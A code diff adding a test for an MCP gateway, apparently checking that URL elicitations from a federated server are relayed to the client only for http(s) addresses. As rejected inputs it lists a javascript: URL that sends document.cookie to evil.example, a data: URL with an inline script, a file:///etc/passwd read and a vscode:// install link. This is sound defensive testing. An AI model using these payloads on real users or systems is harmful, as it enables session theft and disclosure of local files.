@@ -1258,3 +1258,62 @@ describe('relayed_retry_not_rate_limited: a retry answering a federated server c
     }
   });
 });
+
+describe('url_elicitation_any_scheme: a federated server asks the client to open a URL', () => {
+  it('relays only http(s) URLs; javascript:, data:, file: and application schemes get an error, never the client', async () => {
+    const upstream = await startLegacyMcpUpstream([
+      {
+        name: 'open_link',
+        description: 'Asks its client to open the URL it is given',
+        inputSchema: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] },
+        annotations: { destructiveHint: false },
+        call: async (args, request) => {
+          try {
+            const answer = (await request?.ask('elicitation/create', {
+              mode: 'url',
+              url: String(args['url']),
+              message: 'Open this page',
+              elicitationId: 'e-link',
+            })) as { action?: string };
+            return { content: [{ type: 'text', text: `opened: ${answer.action}` }] };
+          } catch (error) {
+            return { content: [{ type: 'text', text: `failed: ${(error as Error).message}` }] };
+          }
+        },
+      },
+    ]);
+    const own = await startOneServiceGateway('links', upstream.url, { tools: ['*'] });
+    try {
+      const shown: string[] = [];
+      const client = new ClientV2(
+        { name: 'federation-url-schemes', version: '1.0.0' },
+        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {}, url: {} } } },
+      );
+      client.setRequestHandler('elicitation/create', async (request) => {
+        shown.push(String((request.params as { url?: unknown }).url));
+        return { action: 'accept' };
+      });
+      await connectToAll(client, own.url);
+      const open = async (url: string) => {
+        const result = (await client.callTool({ name: 'links_open_link', arguments: { url } })) as Result;
+        return String(result.content[0]?.['text']);
+      };
+      for (const url of [
+        'javascript:fetch("https://evil.example/?c="+document.cookie)',
+        'data:text/html,<script>alert(1)</script>',
+        'file:///etc/passwd',
+        'vscode://ms-vscode.remote/install?url=https://evil.example',
+      ]) {
+        expect(await open(url), url).toMatch(
+          /^failed: .*relays a URL elicitation only with an( absolute)? http\(s\) URL/,
+        );
+      }
+      expect(await open('https://example.com/consent')).toBe('opened: accept');
+      expect(shown).toEqual(['https://example.com/consent']);
+      await client.close();
+    } finally {
+      await own.close();
+      await upstream.close();
+    }
+  });
+});
